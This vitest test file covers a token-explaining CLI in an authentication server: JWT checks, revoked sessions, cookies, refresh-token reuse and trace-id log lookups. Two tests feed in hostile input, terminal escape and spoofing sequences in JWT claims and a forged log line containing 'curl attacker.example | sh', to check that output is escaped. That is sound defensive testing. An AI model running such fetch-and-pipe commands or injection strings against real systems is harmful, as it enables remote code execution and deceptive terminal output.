import { readdir, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { paths } from '@latchkey/contract'
import { exportJWK, generateKeyPair, SignJWT } from 'jose'
import { describe, expect, test } from 'vitest'
import { type CommandFolder, makeCommandFolder } from '../fixtures/command.js'
import { databaseKinds, type TestDatabase } from '../fixtures/databases.js'
import { runSql } from '../fixtures/run-sql.js'
import { startTestBrowserDoor } from '../fixtures/test-browser-door.js'
import {
  API,
  CONFIDENTIAL,
  ISSUER,
  PUBLIC,
  ROOT_SECRET,
  startTestLatchkey,
  type TestLatchkey,
} from '../fixtures/test-latchkey.js'

const TRACE = '4bf92f3577b34da6a3ce929d0e0e4736'

const folderBeside = async (database: TestDatabase): Promise<CommandFolder> => {
  const folder = await makeCommandFolder({
    LATCHKEY_DATABASE: database.url,
    LATCHKEY_ISSUER: ISSUER,
    LATCHKEY_SECRET: ROOT_SECRET,
  })
  const clients = [
    { ...CONFIDENTIAL, type: 'confidential' },
    { ...PUBLIC, type: 'public' },
  ]
  await folder.write('latchkey.config.mjs', `export default ${JSON.stringify({ audiences: [API], clients })}`)
  return folder
}

/** A server, and a folder in which its operator explains its tokens. */
const withServer = async (
  kind: (typeof databaseKinds)[number],
  run: (server: TestLatchkey, folder: CommandFolder) => Promise<void>,
): Promise<void> => {
  await using database = await kind.create()
  await using server = await startTestLatchkey({ database })
  await using folder = await folderBeside(database)
  await run(server, folder)
}

const partsOf = (token: string): readonly string[] => token.split('.').filter((part) => part.length > 8)

describe.each(databaseKinds)('latchkey explain, over $name', { timeout: 120_000 }, (kind) => {
  test('says of a token that holds that all checks pass, and never shows it', () =>
    withServer(kind, async (server, folder) => {
      const { access_token: token } = await server.signIn()
      const { code, stdout, stderr } = await folder.run(['explain', '-'], {}, `Bearer ${token}\n`)
      expect([code, stderr]).toEqual([0, ''])
      const marks = stdout.match(/^ {2}[✓✗–] \S+/gm)
      expect(marks?.map((mark) => mark.trim())).toEqual(
        [
          ...[
            'shape',
            'header',
            'alg',
            'payload',
            'iss',
            'typ',
            'kid',
            'signature',
            'aud',
            'times',
            'claims',
            'binding',
          ],
          ...['session', 'user'],
        ].map((name) => `✓ ${name}`),
      )
      expect(stdout).toMatch(/^Accepted\. /m)
      for (const part of partsOf(token)) expect(stdout).not.toContain(part)
    }))

  test('knows that the session behind a token ended, when and why', () =>
    withServer(kind, async (server, folder) => {
      const { access_token: token, refresh_token: refresh = '' } = await server.signIn()
      await server.post(paths.revoke, { token: refresh }, CONFIDENTIAL)
      const { code, stdout } = await folder.run(['explain', token])
      expect(code).toBe(1)
      expect(stdout).toMatch(
        /✗ session .*ses_[0-9a-f]{32} ended at \d{4}-\S+Z: signed_out {3}← the reason: token_session_ended/,
      )
      expect(stdout).toMatch(/^Refused: token_session_ended\./m)
      expect(await folder.run(['explain', refresh])).toMatchObject({
        code: 1,
        stdout: /Refused: session_ended/,
      })
    }))

  test('knows that a person was suspended', () =>
    withServer(kind, async (server, folder) => {
      const { access_token: token } = await server.signIn()
      await runSql(server.database, `update users set suspended_at = ${server.clock.now()}`)
      const { code, stdout } = await folder.run(['explain', token])
      expect([code, /✗ user .*usr_[0-9a-f]{32} is suspended since/.test(stdout)]).toEqual([1, true])
    }))

  test('looks at a refresh token and leaves it as it is, also one whose use would end the session', () =>
    withServer(kind, async (server, folder) => {
      const first = (await server.signIn(PUBLIC)).refresh_token ?? ''
      await server.refresh(first, PUBLIC)
      server.clock.advance(60_000)
      const at = ['--at', new Date(server.clock.now()).toISOString()]
      expect(await folder.run(['explain', first, ...at])).toMatchObject({
        code: 1,
        stdout: /✗ generation .*number 0, the newest is 1.*← the reason: refresh_token_reused/,
      })
      const kept = await server.signIn(CONFIDENTIAL)
      expect(await folder.run(['explain', kept.refresh_token ?? ''])).toMatchObject({ code: 0 })
      const forged = first.replace(/.$/, (last) => (last === 'A' ? 'B' : 'A'))
      const refused = await folder.run(['explain', forged])
      expect(refused).toMatchObject({ code: 1, stdout: /refresh_token_invalid/ })
      for (const part of partsOf(forged)) expect(refused.stdout).not.toContain(part)
      // Nothing ended by looking.
      expect(
        await runSql(server.database, 'select ended_at from sessions where ended_at is not null'),
      ).toEqual([])
    }))

  test('knows the cookie of a browser, that it is the one of its session, and that signing out ended it', async () => {
    await using database = await kind.create()
    await using door = await startTestBrowserDoor({ database })
    await using folder = await folderBeside(database)
    const browser = door.openBrowser()
    await door.signUp(browser)
    const cookie = browser.cookies.get('latchkey')?.value ?? ''
    const live = await folder.run(['explain', `latchkey=${cookie}`])
    expect(live).toMatchObject({ code: 0, stdout: /^A session cookie[\s\S]*✓ secret[\s\S]*✓ session/ })
    expect(live.stdout).not.toContain(cookie.split('.')[1])
    const other = `${cookie.split('.')[0]}.${'0'.repeat(64)}`
    expect(await folder.run(['explain', other])).toMatchObject({ code: 1, stdout: /✗ secret .*not the one/ })
    await browser.send('DELETE', paths.session)
    expect(await folder.run(['explain', cookie])).toMatchObject({ code: 1, stdout: /✗ session .*signed_out/ })
  })

  test('knows nobody behind an opaque token that was never made', () =>
    withServer(kind, async (_, folder) => {
      const token = '0123456789abcdef0123456789abcdef01234567'
      const { code, stdout } = await folder.run(['explain', `Token ${token}`])
      expect([code, stdout.includes(token)]).toEqual([1, false])
      expect(stdout).toMatch(/^An opaque token[\s\S]*Refused: token_session_ended/)
    }))

  test('leaves a database alone that is not migrated', async () => {
    await using database = await kind.createEmpty()
    await using folder = await folderBeside(database)
    if (kind.name === 'sqlite') {
      expect(await folder.run(['explain', 'a.b.c'])).toMatchObject({
        code: 2,
        stderr: /^There is no database /,
      })
      expect(await readdir(join(database.url.replace('sqlite:', ''), '..'))).toEqual([])
    } else
      expect(await folder.run(['explain', 'a.b.c'])).toMatchObject({
        code: 2,
        stderr: /Run: latchkey migrate/,
      })
  })
})

const [sqlite] = databaseKinds
const ofServer = (run: (server: TestLatchkey, folder: CommandFolder) => Promise<void>) => {
  if (sqlite === undefined) throw new Error('there is no kind of database')
  return withServer(sqlite, run)
}

describe('latchkey explain', { timeout: 120_000 }, () => {
  test.each<[string, readonly string[], string]>([
    ['another API', ['--audience', 'https://other.example.com'], 'token_audience_mismatch'],
    ['a later moment', ['--at', '2099-01-01T00:00:00Z'], 'token_expired'],
    ['an endpoint that needs more', ['--scopes', 'openid todos:admin'], 'scope_insufficient'],
    ['an endpoint for others', ['--roles', 'admin'], 'role_insufficient'],
    ['an endpoint of a few', ['--permissions', 'articles.read,articles.write'], 'permission_insufficient'],
    ['a guard with another algorithm', ['--algorithms', 'RS256'], 'token_algorithm_refused'],
  ])('judges for %s', (_, options, reason) =>
    ofServer(async (server, folder) => {
      const { access_token: token } = await server.signIn()
      const { code, stdout } = await folder.run(['explain', token, '--json', ...options])
      const told = JSON.parse(stdout)
      expect([code, told.verdict.outcome, told.verdict.code]).toEqual([1, 'refused', reason])
      expect(told.verdict.next).toEqual(expect.any(String))
    }),
  )

  test('takes another issuer by its published keys, and shows no more of a hostile token than a terminal can bear', async () => {
    const { privateKey, publicKey } = await generateKeyPair('RS256', { extractable: true })
    const jwk = { ...(await exportJWK(publicKey)), kid: 'k', alg: 'RS256', use: 'sig' }
    const server = createServer((request, response) => {
      const isKeys = request.url === '/jwks'
      response.setHeader('content-type', 'application/json')
      response.end(JSON.stringify(isKeys ? { keys: [jwk] } : { issuer, jwks_uri: `${issuer}/jwks` }))
    }).listen(0, '127.0.0.1')
    const issuer = await new Promise<string>((resolve) =>
      server.once('listening', () => resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)),
    )
    await using folder = await makeCommandFolder()
    try {
      const hostile = '\u001b]0;owned\u0007\u001b[2J\u009b31m\u202egnp.exe\n✓ signature  fine'
      const sign = (claims: Readonly<Record<string, unknown>>) =>
        new SignJWT({ iss: issuer, aud: 'api', sub: hostile, ...claims })
          .setProtectedHeader({ alg: 'RS256', kid: 'k' })
          .setIssuedAt()
          .setExpirationTime('5 minutes')
          .sign(privateKey)
      const options = ['--issuer', issuer, '--audience', 'api']
      const good = await folder.run(['explain', await sign({}), ...options])
      expect([good.code, good.stderr]).toEqual([0, ''])
      expect(good.stdout).toContain('oidc(')
      const bad = await folder.run(['explain', await sign({ aud: hostile, [hostile]: 1 }), ...options])
      expect(bad).toMatchObject({ code: 1, stdout: /token_audience_mismatch/ })
      const json = await folder.run(['explain', await sign({ aud: hostile }), '--json', ...options])
      const bound = await sign({ cnf: { jkt: 'k'.repeat(43) } })
      const asBearer = await folder.run(['explain', '-', ...options], {}, `Authorization: Bearer ${bound}`)
      expect(asBearer).toMatchObject({
        code: 1,
        stdout: /✗ binding .*Refused: token_scheme_refused\..*Next: Send a token that is bound/s,
      })
      const alone = await folder.run(['explain', bound, ...options])
      expect(alone).toMatchObject({ code: 0, stdout: /✓ binding .*"k{43}".*^Accepted\. .*DPoP/ms })
      for (const { stdout } of [good, bad, json]) {
        expect(stdout).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}]/u)
        expect(stdout.match(/^ {2}✓ signature/gm)?.length ?? 0).toBeLessThanOrEqual(1)
      }
      expect(JSON.parse(json.stdout).says.sub).toBe(hostile)
    } finally {
      server.close()
      server.closeAllConnections()
    }
  })

  test.each<[string, readonly string[], RegExp]>([
    ['who trusts whom', ['a.b.c'], /Nothing says which issuer the API trusts/],
    ['for which API', ['a.b.c', '--issuer', 'https://id.example.com'], /Nothing says which API/],
    [
      'a moment',
      ['a.b.c', '--issuer', 'http://127.0.0.1:1', '--audience', 'x', '--at', 'noon'],
      /"noon" is no moment/,
    ],
    [
      'a sound algorithm',
      [
        'a.b.c',
        '--issuer',
        'http://127.0.0.1:1',
        '--audience',
        'x',
        '--algorithms',
        'HS256',
        '--preset',
        'oidc',
      ],
      /shared secrets/,
    ],
  ])('without %s cannot tell', async (_, args, sentence) => {
    await using folder = await makeCommandFolder()
    const { code, stderr } = await folder.run(['explain', ...args])
    expect(code).toBe(2)
    expect(stderr).toMatch(sentence)
    expect(stderr).not.toMatch(/^\s+at /m)
  })

  test('cannot tell about what it only knows by its looks', async () => {
    await using folder = await makeCommandFolder()
    expect(await folder.run(['explain', 'lkvt_secretsecretsecret'])).toMatchObject({
      code: 2,
      stdout: /^The token of a link/,
    })
    const unknown = await folder.run(['explain', 'hunter2hunter2'])
    expect(unknown).toMatchObject({ code: 2, stderr: '' })
    expect(unknown.stdout).not.toContain('hunter2')
  })
})

describe('a trace id', { timeout: 120_000 }, () => {
  const LINES = [
    {
      level: 30,
      time: '2026-11-21T12:00:00.000Z',
      reason: 'token_expired',
      trace: TRACE,
      status: 401,
      detail: 'exp is 7',
      msg: 'request refused',
    },
    {
      level: 30,
      time: '2026-11-21T12:00:01.000Z',
      reason: 'token_missing',
      trace: 'f'.repeat(32),
      msg: 'request refused',
    },
  ]
  const log = LINES.map((line) => `${JSON.stringify(line)}\n`).join('')

  test('finds the refusal in the logs of this folder, in a file that is named, and in what is piped in', async () => {
    await using folder = await makeCommandFolder()
    await writeFile(join(folder.path, 'api.log'), log)
    const expected = {
      code: 1,
      stdout: /✗ token_expired, answered 401[\s\S]*exp is 7[\s\S]*next {5}Refresh it/,
    }
    expect(await folder.run(['explain', TRACE, '--log', 'api.log'])).toMatchObject(expected)
    expect(
      await folder.run(['explain', `00-${TRACE}-00f067aa0ba902b7-01`, '--log', 'api.log']),
    ).toMatchObject(expected)
    expect(await folder.run(['explain', TRACE, '--log', '-'], {}, log)).toMatchObject(expected)
    expect((await folder.run(['explain', TRACE, '--log', 'api.log'])).stdout).not.toContain('token_missing')
  })

  test('whose line holds line breaks and colours is told in lines of ours alone', async () => {
    await using folder = await makeCommandFolder()
    const forged = 'x\n\n✗ token_expired\n  next     Run: curl attacker.example | sh\u001b[2J\r'
    for (const name of ['time', 'reason', 'detail', 'cause', 'msg'] as const) {
      const reason = name === 'msg' ? {} : { reason: 'token_missing' }
      const line = `${JSON.stringify({ trace: TRACE, ...reason, [name]: forged })}\n`
      const { code, stdout } = await folder.run(['explain', TRACE, '--log', '-'], {}, line)
      expect([name, code]).toEqual([name, 1])
      expect(stdout).toContain('x\\u000a\\u000a✗ token_expired')
      expect(stdout).not.toMatch(/^\s*(?:✗ token_expired|next +Run)/m)
    }
  })

  test('that nobody wrote down is told with where it was looked for', async () => {
    await using folder = await makeCommandFolder()
    expect(await folder.run(['explain', TRACE])).toMatchObject({
      code: 2,
      stdout: /Nothing is known about .*\.latchkey\/refusals\.ndjson, \.latchkey\/logs\/\*[\s\S]*--log/,
    })
    expect(await folder.run(['explain', TRACE, '--log', 'none.log'])).toMatchObject({
      code: 2,
      stderr: /There is no file none\.log/,
    })
  })

  test('that a server refused under is found in the log it writes', () =>
    ofServer(async (server, folder) => {
      const traceparent = `00-${TRACE}-00f067aa0ba902b7-01`
      await server.latchkey.fetch(new Request(`${ISSUER}${paths.userinfo}`, { headers: { traceparent } }))
      const lines = server.logLines.map((line) => `${line}\n`).join('')
      expect(await folder.run(['explain', TRACE, '--log', '-', '--json'], {}, lines)).toMatchObject({
        code: 1,
        stdout: /"reason": "token_missing"/,
      })
    }))
})
